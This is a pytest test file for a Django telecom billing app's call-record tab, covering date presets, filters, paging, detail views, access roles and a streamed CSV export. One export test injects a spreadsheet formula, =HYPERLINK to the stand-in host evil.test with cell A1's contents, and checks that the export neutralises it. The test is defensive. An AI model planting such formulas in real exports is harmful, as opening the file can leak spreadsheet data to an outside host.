"""The card's CDR tab: date presets in UTC, the filters and sorts, the operator's columns, a CDR's detail, the streamed
CSV (exact content, formulas neutralised, bounded memory), roles; and Latest Calls showing the real calls' ratings."""

from __future__ import annotations

import csv
import io
import re
import weakref
from datetime import datetime, timedelta
from types import SimpleNamespace

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.cdrs.cdr_helpers import cdr, insert_many, make_cdrs, rated, utc
from tests.factories import make_customer
from tests.routing.helpers import make_provider
from trunkline.cdrs import cdr_filtersets, cdr_views
from trunkline.cdrs.cdr_filtersets import period_range
from trunkline.cdrs.cdr_tables import CdrTable
from trunkline.cdrs.models import CallRecord, Cdr
from trunkline.core.models import UserPreference

pytestmark = pytest.mark.django_db

NOW = utc("2026-12-06T15:00:00")


@pytest.mark.parametrize(("now", "period", "bounds"), [
    ("2026-12-06T15:00:00", "today", ("2026-12-06T00:00:00", "2026-12-07T00:00:00")),
    ("2026-12-06T00:00:00", "today", ("2026-12-06T00:00:00", "2026-12-07T00:00:00")),
    ("2026-12-06T23:59:59", "yesterday", ("2026-12-05T00:00:00", "2026-12-06T00:00:00")),
    ("2026-12-06T15:00:00", "last_7_days", ("2026-11-30T00:00:00", "2026-12-07T00:00:00")),
    ("2026-12-06T15:00:00", "this_month", ("2026-12-01T00:00:00", "2027-01-01T00:00:00")),
    ("2026-12-06T15:00:00", "last_month", ("2026-11-01T00:00:00", "2026-12-01T00:00:00")),
    ("2027-01-01T00:30:00", "last_month", ("2026-12-01T00:00:00", "2027-01-01T00:00:00")),
    ("2028-03-10T08:00:00", "last_month", ("2028-02-01T00:00:00", "2028-03-01T00:00:00")),
    ("2028-02-10T08:00:00", "this_month", ("2028-02-01T00:00:00", "2028-03-01T00:00:00")),
])
def test_presets_are_whole_utc_days(now: str, period: str, bounds: tuple[str, str]) -> None:
    assert period_range(period, utc(now)) == (utc(bounds[0]), utc(bounds[1]))


def test_a_preset_from_another_zone_is_the_utc_day() -> None:
    # 00:30 in Berlin on the 7th is still the 6th in UTC.
    berlin = datetime.fromisoformat("2026-12-07T00:30:00+01:00")
    assert period_range("today", berlin) == (utc("2026-12-06T00:00:00"), utc("2026-12-07T00:00:00"))
    assert period_range("custom", berlin) is None
    assert period_range("any", berlin) is None


@pytest.fixture
def fixed_now(monkeypatch) -> None:
    monkeypatch.setattr(cdr_filtersets, "timezone", SimpleNamespace(now=lambda: NOW))


@pytest.fixture
def acme(db):
    return make_customer(name="Acme Voice")


@pytest.fixture
def days(acme, fixed_now):
    """One CDR on each day that tells the presets apart (now is 2026-12-06 15:00 UTC)."""
    rows = make_cdrs(
        cdr(acme, utc("2026-12-06T09:00:00"), duration=65, call_id="today", **rated()),
        cdr(acme, utc("2026-12-05T22:00:00"), call_id="yesterday"),
        cdr(acme, utc("2026-12-01T00:00:00"), duration=10, call_id="first-of-month",
            release_reason="Lifetime Timeout"),
        cdr(acme, utc("2026-11-30T00:00:00"), call_id="seven-days-ago", sip_code=503,
            sip_reason="Channel Limit Reached", dst="33123456789"),
        cdr(acme, utc("2026-11-29T23:59:59"), duration=3600, call_id="eight-days-ago", cli="442079990000"),
    )
    make_cdrs(cdr(make_customer(name="Bolt Telecom"), utc("2026-12-06T10:00:00"), duration=5, call_id="bolt"))
    return {row.call_id: row for row in rows}


def tab(client: Client, customer, query: str = "") -> str:
    response = client.get(reverse("cdrs:cdr_tab", args=[customer.pk]) + query)
    assert response.status_code == 200
    return response.content.decode()


def listed(html: str, rows: dict[str, Cdr]) -> list[str]:
    names = {row.pk: name for name, row in rows.items()}
    return [names[int(pk)] for pk in re.findall(r'<tr data-cdr="(\d+)">', html)]


@pytest.mark.parametrize(("query", "expected"), [
    ("", ["today", "yesterday", "first-of-month", "seven-days-ago"]),  # last 7 days by default
    ("?period=today", ["today"]),
    ("?period=yesterday", ["yesterday"]),
    ("?period=this_month", ["today", "yesterday", "first-of-month"]),
    ("?period=last_month", ["seven-days-ago", "eight-days-ago"]),
    ("?period=any", ["today", "yesterday", "first-of-month", "seven-days-ago", "eight-days-ago"]),
    ("?period=custom&start_after=2026-12-01T00:00&start_before=2026-12-06T00:00",
     ["yesterday", "first-of-month"]),
    ("?period=custom&start_after=2026-11-29T23:59:59", ["today", "yesterday", "first-of-month", "seven-days-ago",
                                                        "eight-days-ago"]),
    # A range typed earlier does not narrow a preset chosen since.
    ("?period=today&start_after=2026-12-06T10:00&start_before=2026-12-06T11:00", ["today"]),
    ("?period=any&connected=true", ["today", "first-of-month", "eight-days-ago"]),
    ("?period=any&number=4420", ["today", "yesterday", "first-of-month", "eight-days-ago"]),
    ("?period=any&number=33", ["seven-days-ago"]),
    ("?period=any&number=44207999", ["eight-days-ago"]),
    ("?period=any&release_reason=Lifetime+Timeout&release_reason=Downstream+BYE",
     ["today", "first-of-month", "eight-days-ago"]),
    ("?period=any&sip_code=486%2C+503", ["yesterday", "seven-days-ago"]),
    ("?period=any&q=month", ["first-of-month"]),
    ("?period=any&ordering=duration", ["yesterday", "seven-days-ago", "first-of-month", "today", "eight-days-ago"]),
    ("?period=any&ordering=-duration", ["eight-days-ago", "today", "first-of-month", "seven-days-ago", "yesterday"]),
    ("?period=any&ordering=-customer_charge", ["today", "eight-days-ago", "seven-days-ago", "first-of-month",
                                                "yesterday"]),
    ("?period=any&ordering=cli", ["today", "yesterday", "first-of-month", "seven-days-ago", "eight-days-ago"]),
    ("?period=any&customer=999", ["today", "yesterday", "first-of-month", "seven-days-ago", "eight-days-ago"]),
])
def test_grid_filters_and_sorts_on_the_server(web, acme, days, query: str, expected: list[str]) -> None:
    html = tab(web, acme, query)
    assert listed(html, days) == expected
    assert f'<span class="count" data-testid="cdr-count">{len(expected)}</span>' in html


def test_a_bad_filter_lists_nothing_and_says_why(web, acme, days) -> None:
    html = tab(web, acme, "?period=any&sip_code=busy")
    assert listed(html, days) == []
    assert "Some filters could not be applied, so nothing is listed: SIP codes: Enter a whole number." in html


def test_pages_without_counting_past_the_cap(web, acme, days, monkeypatch) -> None:
    monkeypatch.setattr(cdr_views, "COUNT_CAP", 3)
    html = tab(web, acme, "?period=any&per_page=25")
    assert '<span class="count" data-testid="cdr-count">more than 3</span>' in html
    assert "1–5 of more than 3" in html


def test_pages(web, acme, days) -> None:
    make_cdrs(*(cdr(acme, utc("2026-10-01T00:00:00") + timedelta(minutes=n), call_id=f"old-{n}")
                for n in range(30)))
    first = tab(web, acme, "?period=any&per_page=25")
    assert len(re.findall(r'<tr data-cdr="', first)) == 25
    assert "1–25 of 35" in first and "Next ›" in first
    second = tab(web, acme, "?period=any&per_page=25&page=2")
    assert len(re.findall(r'<tr data-cdr="', second)) == 10
    assert "26–35 of 35" in second and "Next ›" not in second and "‹ Previous" in second


def test_the_operators_columns(web, operator_user, acme, days) -> None:
    UserPreference.for_user(operator_user).set(CdrTable.preference_key(), ["customer_charge", "cli", "profit"])
    html = tab(web, acme, "?period=today")
    headers = re.findall(r'<th class="[^"]*" data-column="(\w+)">', html)
    assert headers == ["start", "customer_charge", "cli", "profit"]
    row = re.search(r'<tr data-cdr="\d+">(.*?)</tr>', html, re.S).group(1)
    cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
    assert cells == ["2026-12-06 09:00:00", "0.077 USD", "15551230000", "0.022 USD"]


def test_each_row_opens_its_detail_keeping_the_filters(web, acme, days) -> None:
    html = tab(web, acme, "?period=today&connected=true")
    url = reverse("cdrs:cdr_detail", args=[acme.pk, days["today"].pk])
    assert f'<a href="{url}?period=today&amp;connected=true" class="nowrap">2026-12-06 09:00:00</a>' in html


def test_detail_shows_both_sides_and_the_profit(web, acme, days) -> None:
    row = days["today"]
    Cdr.objects.filter(pk=row.pk).update(provider=make_provider(name="First Telecom"), pdd_ms=1250)
    response = web.get(reverse("cdrs:cdr_detail", args=[acme.pk, row.pk]) + "?period=today")
    assert response.status_code == 200
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))
    for expected in ("Call time 2026-12-06 09:00:00 UTC", "Answered 2026-12-06 09:00:02 UTC",
                     "Duration 65 s (65000 ms)", "Destination 442071234567", "PDD 1250 ms",
                     "Release reason Downstream BYE", "Destination name UK London", "Rate 0.070000 /min",
                     "Billed duration 66 s", "Charge 0.077000 USD", "Tax 0.015400 USD",
                     "Charge with tax 0.092400 USD", "In the ledger 0.092400 USD", "Provider First Telecom",
                     "Destination name UK", "Rate 0.050000 /min", "Cost 0.055000 USD",
                     "Profit 0.022000 USD (28.57 % of the charge)"):
        assert expected in text, expected
    assert f'href="{reverse("cdrs:cdr_tab", args=[acme.pk])}?period=today"' in response.content.decode()


def test_detail_of_another_customers_cdr_is_a_404(web, acme, days) -> None:
    bolt_cdr = Cdr.objects.get(call_id="bolt")
    assert web.get(reverse("cdrs:cdr_detail", args=[acme.pk, bolt_cdr.pk])).status_code == 404
    assert web.get(reverse("cdrs:cdr_detail", args=[bolt_cdr.customer_id, bolt_cdr.pk])).status_code == 200


def test_profit_in_two_currencies_is_said_to_be_empty(web, acme, days) -> None:
    row = days["yesterday"]
    Cdr.objects.filter(pk=row.pk).update(provider_currency="EUR", profit=None)
    html = web.get(reverse("cdrs:cdr_detail", args=[acme.pk, row.pk])).content.decode()
    assert "— (the two sides are in different currencies)" in html


def download(client: Client, customer, query: str) -> tuple[StreamingHttpResponse, list[list[str]]]:
    response = client.get(reverse("cdrs:cdr_csv", args=[customer.pk]) + query)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return response, list(csv.reader(io.StringIO(text)))


def test_csv_has_the_filtered_set_in_the_chosen_columns_with_formulas_neutralised(web, operator_user, acme,
                                                                                    days) -> None:
    Cdr.objects.filter(pk=days["today"].pk).update(cli='=HYPERLINK("http://evil.test/?"&A1,"Click")',
                                                   customer_dest_name="@SUM(1+1)")
    Cdr.objects.filter(pk=days["first-of-month"].pk).update(cli="+15551230000", customer_dest_name="-Mobile")
    UserPreference.for_user(operator_user).set(
        CdrTable.preference_key(), ["call_id", "cli", "dst", "customer_dest_name", "duration", "customer_charge",
                                    "answer", "sip_code", "connected"])
    response, rows = download(web, acme, "?period=any&connected=true&ordering=-duration")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="acme-voice-cdrs-any.csv"'
    assert rows == [
        ["start", "call_id", "cli", "dst", "customer_dest_name", "duration", "customer_charge", "answer",
         "sip_code", "connected"],
        ["2026-11-29T23:59:59Z", "eight-days-ago", "442079990000", "442071234567", "", "3600", "0.000000",
         "2026-11-30T00:00:01Z", "200", "true"],
        ["2026-12-06T09:00:00Z", "today", '\'=HYPERLINK("http://evil.test/?"&A1,"Click")', "442071234567",
         "'@SUM(1+1)", "65", "0.077000", "2026-12-06T09:00:02Z", "200", "true"],
        ["2026-12-01T00:00:00Z", "first-of-month", "+15551230000", "442071234567", "'-Mobile", "10", "0.000000",
         "2026-12-01T00:00:02Z", "200", "true"],
    ]


def test_csv_default_columns_and_preset(web, acme, days) -> None:
    response, rows = download(web, acme, "?period=yesterday")
    assert response["Content-Disposition"] == 'attachment; filename="acme-voice-cdrs-yesterday.csv"'
    assert rows == [
        ["start", "call_id", "cli", "dst", "customer_dest_name", "duration", "customer_billed", "customer_charge",
         "release_reason", "sip_code", "provider_name"],
        ["2026-12-05T22:00:00Z", "yesterday", "15551230000", "442071234567", "", "0", "0", "0.000000", "", "486",
         ""],
    ]


def test_csv_of_an_invalid_filter_is_the_header_alone(web, acme, days) -> None:
    _, rows = download(web, acme, "?period=any&sip_code=99")
    assert len(rows) == 1


def test_csv_streams_20000_rows_in_bounded_memory(web, acme, fixed_now, monkeypatch) -> None:
    """The download turns each row into a line as the database hands it over: at no moment does it hold more than
    a couple of CDRs (holding the set would be 20,000), and the lines start before the query has run."""
    insert_many(acme, 20_000, utc("2026-12-06T08:00:00"))
    live: weakref.WeakSet[Cdr] = weakref.WeakSet()
    from_db = Cdr.from_db.__func__

    def tracked(cls, db, field_names, values):
        cdr = from_db(cls, db, field_names, values)
        live.add(cdr)
        return cdr

    monkeypatch.setattr(Cdr, "from_db", classmethod(tracked))
    response = web.get(reverse("cdrs:cdr_csv", args=[acme.pk]) + "?period=today")
    with CaptureQueriesContext(connection) as queries:
        chunks = iter(response.streaming_content)
        assert next(chunks).startswith(b"start,call_id,cli,dst")
        assert queries.captured_queries == []  # the header went out before the CDRs were asked for
        lines, most_held = 1, 0
        for chunk in chunks:
            lines += chunk.count(b"\n")
            most_held = max(most_held, len(live))
    assert lines == 20_001
    assert most_held <= 2
    selects = [query["sql"] for query in queries.captured_queries if "cdrs_cdr" in query["sql"]]
    assert len(selects) == 1  # one query read in chunks of CSV_CHUNK (fetchmany; a named cursor on PostgreSQL)


def test_viewers_read_the_tab_detail_and_csv(api_for, viewer_user, acme, days) -> None:
    client = Client()
    client.force_login(viewer_user)
    html = tab(client, acme, "?period=any")
    assert len(listed(html, days)) == 5
    section = re.search(r'<section class="card" id="cdrs".*?</section>', html, re.S).group(0)
    assert 'method="post"' not in section  # nothing on the tab acts
    assert client.get(reverse("cdrs:cdr_detail", args=[acme.pk, days["today"].pk])).status_code == 200
    _, rows = download(client, acme, "?period=any")
    assert len(rows) == 6


def test_signed_out_visitors_are_sent_to_log_in(client, acme, days) -> None:
    for url in (reverse("cdrs:cdr_tab", args=[acme.pk]), reverse("cdrs:cdr_csv", args=[acme.pk]),
                reverse("cdrs:cdr_detail", args=[acme.pk, days["today"].pk])):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/login/")


def test_the_tab_is_on_the_card_after_dialogs(web, acme) -> None:
    html = tab(web, acme)
    labels = re.findall(r'<nav class="card-tabs".*?</nav>', html, re.S)[0]
    order = re.findall(r">([^<]+)</a>", labels)
    assert order.index("CDR") > order.index("Dialogs")
    assert order[-1] == "Audit Log"
    assert 'aria-current="page">CDR</a>' in html


def test_recalc_slot_draws_its_template_when_there_is_one(web, acme, days, settings, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(cdr_views, "RECALC_BUTTON", "cdrs/includes/no_such_recalc_button.html")
    assert "RECALC-SLOT" not in tab(web, acme)
    (tmp_path / "cdrs" / "includes").mkdir(parents=True)
    (tmp_path / "cdrs" / "includes" / "probe_recalc.html").write_text("RECALC-SLOT {{ object.pk }}")
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [*settings.TEMPLATES[0]["DIRS"], tmp_path]}]
    monkeypatch.setattr(cdr_views, "RECALC_BUTTON", "cdrs/includes/probe_recalc.html")
    assert f"RECALC-SLOT {acme.pk}" in tab(web, acme)


def test_latest_calls_show_the_rating_of_real_calls(web, acme) -> None:
    at = utc("2026-12-06T09:00:00")
    for call_id in ("rated-call", "unrated-call"):
        CallRecord.objects.create(call_id=call_id, decided=True, attempted_at=at, answered_at=at, ended_at=at,
                                  state="ended", customer=acme, customer_name=acme.name, dst="442071234567",
                                  sip_code=200, duration=65)
    rated_cdr, = make_cdrs(cdr(acme, at, duration=65, call_id="rated-call", **rated()))
    make_cdrs(cdr(acme, at, duration=65, call_id="rated-call", leg="b", **rated(customer_dest_name="Other leg")))
    response = web.get(reverse("customer_routing:latest_calls_tab", args=[acme.pk]))
    html = response.content.decode()
    row = re.search(r">rated-call</span></button></td>(.*?)</tr>", html, re.S).group(1)
    cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
    detail = reverse("cdrs:cdr_detail", args=[acme.pk, rated_cdr.pk])
    assert f'<a href="{detail}" title="Open the CDR">UK London</a><span class="billed">66 s · 0.077 USD</span>' in row
    assert cells[2] == "UK London66 s · 0.077 USD"
    other = re.search(r">unrated-call</span></button></td>(.*?)</tr>", html, re.S).group(1)
    cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", other, re.S)]
    assert cells[2] == "—"
    assert len(cells) == 10
